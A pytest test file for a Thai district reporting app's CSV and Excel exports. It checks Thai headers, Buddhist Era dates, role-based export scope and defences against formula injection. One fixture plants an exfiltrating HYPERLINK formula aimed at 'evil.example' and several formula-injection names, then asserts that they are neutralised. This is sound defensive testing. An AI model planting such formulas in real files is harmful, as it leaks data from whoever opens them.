"""Exports of a cycle, opened and read back (csv, openpyxl): Thai headers, Buddhist Era dates, the frozen
indicators as columns, the figures of the known world of test_monitoring, and who may export what."""

from __future__ import annotations

import csv
import datetime
import io
import re
from urllib.parse import unquote

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from reporting.models import ReportingCycle
from tests.reporting.test_monitoring import Known, build_known, client_for

pytestmark = pytest.mark.django_db


@pytest.fixture
def known(org, new_cycle, clock) -> Known:
    return build_known(org, new_cycle, clock)


def export_url(cycle: ReportingCycle, what: str, fmt: str, province: object = None) -> str:
    url = reverse("reporting:export", args=[cycle.pk, what, fmt])
    return f"{url}?province={province.pk}" if province is not None else url  # type: ignore[attr-defined]


def read_csv(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel needs for Thai
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def read_xlsx(response) -> list[tuple]:
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).active
    return list(sheet.iter_rows(values_only=True))


def frozen_headers(cycle: ReportingCycle) -> list[str]:
    return [f"{i.name_th} ({i.unit})" for i in cycle.indicators.order_by("area_order", "order", "code")]


LETTERS = [
    "หนังสือรับของสำนักงานอำเภอ",
    "หนังสือส่งของสำนักงานอำเภอ",
    "หนังสือรับของสำนักงานส่งเสริมการปกครองท้องถิ่นอำเภอ (สถอ.)",
    "หนังสือส่งของสำนักงานส่งเสริมการปกครองท้องถิ่นอำเภอ (สถอ.)",
]


def test_reports_csv_one_row_per_district(org, known: Known):
    response = client_for(org.central).get(export_url(known.cycle, "reports", "csv"))
    assert response.status_code == 200
    rows = read_csv(response)
    header, body = rows[0], rows[1:]
    n = known.indicators
    assert header[:10] == [
        "จังหวัด",
        "อำเภอ",
        "รหัสอำเภอ",
        "ท้องถิ่นอำเภอผู้รับผิดชอบ",
        "สถานะ",
        "เสร็จสมบูรณ์",
        "วันที่ส่ง",
        "ส่งล่าช้า",
        "ส่งภายในกำหนดที่ขยาย",
        "กำหนดส่ง",
    ]
    assert header[10 : 10 + n] == frozen_headers(known.cycle)
    assert len(header) == 10 + n + 4
    assert len(body) == 33
    by_code = {row[2]: row for row in body}
    done = by_code[org.district.code]
    assert done[:2] == ["เชียงใหม่", org.district.name_th]
    assert done[3] == org.officer.officer.full_name
    assert done[4:10] == ["อนุมัติแล้ว", "ใช่", "8 มิ.ย. 2569 09:00 น.", "", "", "26 มิ.ย. 2569 16:30 น."]
    assert done[10:] == ["5"] * (n + 4)
    within = by_code[org.lamphun_district.code]
    assert within[0] == "ลำพูน" and within[4:10] == [
        "อนุมัติแล้ว",
        "ใช่",
        "29 มิ.ย. 2569 10:00 น.",
        "",  # not late: by its extended deadline
        "ใช่",
        "3 ก.ค. 2569 16:30 น.",  # the extended deadline
    ]
    assert within[10:] == ["7"] * (n + 4)
    draft = by_code[org.other_district.code]
    assert draft[4:6] == ["บันทึกร่าง", ""] and draft[10:] == ["2"] * (n + 4)
    nobody = by_code[known.fourth.code]
    assert nobody[3] == "ไม่มีผู้รับผิดชอบ" and nobody[4] == "ส่งแล้ว รอตรวจ"
    untouched = by_code[known.third.code]
    assert untouched[4] == "ยังไม่เริ่ม" and untouched[10:] == [""] * (n + 4)


def test_reports_xlsx_reads_back_with_numbers_as_numbers(org, known: Known):
    response = client_for(org.central).get(export_url(known.cycle, "reports", "xlsx"))
    assert response.status_code == 200
    disposition = unquote(response["Content-Disposition"])
    assert "ไตรมาส_3-2569-reports.xlsx" in disposition and disposition.startswith("attachment")
    rows = read_xlsx(response)
    assert rows[0][0].startswith("ไตรมาส 3/2569")  # the title line: the cycle and when
    header, body = rows[1], rows[2:]
    assert list(header[-4:]) == LETTERS
    assert len(body) == 33
    done = next(row for row in body if row[2] == org.district.code)
    assert done[10:] == (5,) * (known.indicators + 4)
    assert isinstance(done[10], int)


def test_provinces_export_is_the_progress_table(org, known: Known):
    rows = read_csv(client_for(org.central).get(export_url(known.cycle, "provinces", "csv")))
    header, body = rows[0], rows[1:]
    assert header == [
        "จังหวัด",
        "จำนวนอำเภอ",
        "เสร็จสมบูรณ์",
        "ร้อยละที่เสร็จสมบูรณ์",
        "ส่งแล้ว รอตรวจ",
        "บันทึกร่าง",
        "ส่งกลับแก้ไข",
        "ยังไม่เริ่ม",
        "เกินกำหนด",
        "ส่งรายงานล่าช้า",
        "ส่งภายในกำหนดที่ขยาย",
        "ไม่มีผู้รับผิดชอบ",
    ]
    assert len(body) == 77  # 76 provinces and the country
    by_name = {row[0]: row for row in body}
    assert by_name["ลำพูน"][1:] == ["8", "1", "12.5", "0", "0", "1", "6", "7", "0", "1", "7"]
    assert by_name["เชียงใหม่"][1:] == ["25", "1", "4.0", "1", "1", "0", "22", "23", "0", "0", "22"]
    assert body[-1] == ["ทั้งประเทศ", "33", "2", "6.1", "1", "1", "1", "28", "30", "0", "1", "29"]


def test_analysis_export_totals_per_indicator_by_province(org, known: Known):
    rows = read_xlsx(client_for(org.central).get(export_url(known.cycle, "analysis", "xlsx")))
    header, body = rows[1], rows[2:]
    n = known.indicators
    assert list(header[:4]) == ["จังหวัด", "รายงาน", "รายงานที่เสร็จสมบูรณ์", "ในจำนวนนี้ส่งล่าช้า"]
    assert list(header[4 : 4 + n]) == frozen_headers(known.cycle)
    assert list(header[4 + n :]) == ["ภาระงานรวม", "ภาระงานเฉลี่ยต่ออำเภอ", *LETTERS]
    by_name = {row[0]: row for row in body}
    assert len(body) == 77
    assert by_name["เชียงใหม่"][1:4] == (25, 1, 0) and by_name["เชียงใหม่"][4 : 4 + n] == (5,) * n
    assert by_name["ลำพูน"][1:4] == (8, 1, 0) and by_name["ลำพูน"][4 + n :] == (7 * n, 7 * n, 7, 7, 7, 7)
    country = body[-1]
    assert country[0] == "ทั้งประเทศ" and country[1:4] == (33, 2, 0)
    assert country[4 : 4 + n] == (12,) * n and country[4 + n :] == (12 * n, 6 * n, 12, 12, 12, 12)


def test_analysis_export_for_one_province_has_a_row_per_district(org, known: Known):
    rows = read_csv(client_for(org.director).get(export_url(known.cycle, "analysis", "csv")))
    assert rows[0][0] == "อำเภอ" and len(rows) == 1 + 25 + 1
    assert rows[-1][:4] == ["เชียงใหม่", "25", "1", "0"]


def test_officers_export(org, known: Known):
    rows = read_csv(client_for(org.head).get(export_url(known.cycle, "officers", "csv")))
    header, body = rows[0], rows[1:]
    assert header == [
        "เจ้าหน้าที่",
        "จังหวัด",
        "อำเภอที่รับผิดชอบ",
        "อำเภอ",
        "รายงานที่เสร็จสมบูรณ์",
        "ในจำนวนนี้ส่งล่าช้า",
        "ภาระงานรวม",
        "ภาระงานเฉลี่ยต่ออำเภอ",
    ]
    by_name = {row[0]: row for row in body}
    neighbour = by_name[org.neighbour.officer.full_name]
    assert neighbour[2] == "2" and set(neighbour[3].split(", ")) == {
        org.other_district.name_th,
        known.third.name_th,
    }
    n = known.indicators
    assert by_name[org.officer.officer.full_name][2:] == [
        "1",
        org.district.name_th,
        "1",
        "0",
        str(5 * n),
        f"{5.0 * n}",
    ]
    assert by_name["ไม่มีผู้รับผิดชอบ (ผอ.กง.ทอ. ถือรายงานแทน)"][2] == "22"
    assert org.lp_officer.officer.full_name not in by_name  # Chiang Mai's head: Chiang Mai only


def test_export_scope(org, known: Known):
    cycle = known.cycle
    # A provincial role exports its own province, with or without asking for it; never another.
    for user in (org.director, org.head):
        rows = read_csv(client_for(user).get(export_url(cycle, "reports", "csv")))
        assert len(rows) == 1 + 25 and {row[0] for row in rows[1:]} == {"เชียงใหม่"}
        rows = read_csv(client_for(user).get(export_url(cycle, "reports", "csv", org.chiang_mai)))
        assert len(rows) == 1 + 25
        for what in ("reports", "provinces", "analysis", "officers"):
            response = client_for(user).get(export_url(cycle, what, "csv", org.lamphun))
            assert response.status_code == 404, (user, what)
    rows = read_csv(client_for(org.director).get(export_url(cycle, "provinces", "csv")))
    assert [row[0] for row in rows[1:]] == ["เชียงใหม่"]
    # Officers and desks export nothing.
    for user in (org.officer, org.lp_officer, org.desk):
        for what in ("reports", "provinces", "analysis", "officers"):
            assert client_for(user).get(export_url(cycle, what, "xlsx")).status_code == 404
    # Central staff: the country, or one province.
    rows = read_csv(client_for(org.central).get(export_url(cycle, "reports", "csv", org.lamphun)))
    assert len(rows) == 1 + 8
    response = client_for(org.central).get(export_url(cycle, "reports", "xlsx", org.lamphun))
    assert "ลำพูน" in unquote(response["Content-Disposition"])


def test_export_refuses_unknown_tables_formats_and_cycles(org, known: Known):
    client = client_for(org.central)
    base = reverse("reporting:export", args=[known.cycle.pk, "reports", "csv"])
    assert client.get(base.replace("reports.csv", "secrets.csv")).status_code == 404
    assert client.get(base.replace("reports.csv", "reports.pdf")).status_code == 404
    assert client.get(reverse("reporting:export", args=[999999, "reports", "csv"])).status_code == 404
    assert client.get(base + "?province=abc").status_code == 404


# No formula in a downloaded file (issue 11 item 9): what users typed is text, never a formula; cells are
# typed; the header is frozen and filtered; a Thai file has no English.

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
EVIL_LABEL = '=HYPERLINK("https://evil.example/?leak="&A1,"x")'
EVIL_NAMES = ["=1+1", "+SUM(A1)", "-2+3", "@SUM(A1)", "\tcmd", "\r=cmd"]


def read_book(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(response.content)).active


def assert_no_formula_in_csv(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_STARTS), value


def assert_no_formula_in_xlsx(sheet) -> None:
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)


def assert_readable(sheet, header_row: int) -> None:
    """The header frozen, a filter over the whole table, every column given a width."""
    assert sheet.freeze_panes == f"A{header_row + 1}"
    last = sheet.cell(row=header_row, column=sheet.max_column).column_letter
    assert sheet.auto_filter.ref == f"A{header_row}:{last}{sheet.max_row}"
    for column in range(1, sheet.max_column + 1):
        letter = sheet.cell(row=header_row, column=column).column_letter
        assert sheet.column_dimensions[letter].width >= 8


@pytest.fixture
def evil(org, known: Known) -> Known:
    """A cycle label and officers' names as an attacker would type them."""
    from organisation.models import Officer

    ReportingCycle.objects.filter(pk=known.cycle.pk).update(label=EVIL_LABEL)
    known.cycle.refresh_from_db()
    people = [org.officer, org.neighbour, org.director]
    for person, name in zip(people, EVIL_NAMES, strict=False):
        Officer.objects.filter(pk=person.officer.pk).update(
            prefix="", first_name_th=name, last_name_th=EVIL_NAMES[-1]
        )
    return known


@pytest.mark.parametrize("what", ["reports", "provinces", "analysis", "officers"])
def test_no_formula_in_any_reporting_export(org, evil: Known, what: str):
    for user in (org.central, org.director):
        client = client_for(user)
        rows = read_csv(client.get(export_url(evil.cycle, what, "csv")))
        assert_no_formula_in_csv(rows)
        sheet = read_book(client.get(export_url(evil.cycle, what, "xlsx")))
        assert_no_formula_in_xlsx(sheet)
        assert_readable(sheet, header_row=2)
        title = sheet["A1"]
        assert title.value.startswith(EVIL_LABEL) and title.data_type == "s" and title.quotePrefix
    if what in ("reports", "officers"):  # the officers' names, neutralised, as typed after the quote
        text = "\n".join(",".join(row) for row in rows)
        assert "'=1+1" in text and "'+SUM(A1)" in text


def test_reporting_xlsx_cells_are_typed(org, known: Known):
    sheet = read_book(client_for(org.central).get(export_url(known.cycle, "reports", "xlsx")))
    header = [cell.value for cell in sheet[2]]
    done = next(row for row in sheet.iter_rows(min_row=3) if row[2].value == org.district.code)
    submitted, deadline = done[header.index("วันที่ส่ง")], done[header.index("กำหนดส่ง")]
    for cell in (submitted, deadline):
        assert cell.is_date and isinstance(cell.value, datetime.datetime)
        assert cell.number_format.startswith("[$-th-TH,107]")  # shown in the Buddhist Era
    assert submitted.value.isoformat() == "2026-06-08T09:00:00"  # local time, as the pages show it
    assert deadline.value.isoformat() == "2026-06-26T16:30:00"
    assert all(cell.data_type == "n" and isinstance(cell.value, int) for cell in done[10:])
    percent = read_book(client_for(org.central).get(export_url(known.cycle, "provinces", "xlsx")))
    assert all(isinstance(row[3].value, int | float) for row in percent.iter_rows(min_row=3))


LATIN = re.compile(r"[A-Za-z]")


@pytest.mark.parametrize("what", ["reports", "provinces", "analysis", "officers"])
def test_a_thai_export_has_no_english(org, known: Known, what: str):
    client = client_for(org.central)
    for row in read_csv(client.get(export_url(known.cycle, what, "csv"))):
        assert not any(LATIN.search(value) for value in row), row
    sheet = read_book(client.get(export_url(known.cycle, what, "xlsx")))
    for row in sheet.iter_rows(values_only=True):
        assert not any(isinstance(v, str) and LATIN.search(v) for v in row), row
    assert "ข้อมูล ณ" in sheet["A1"].value
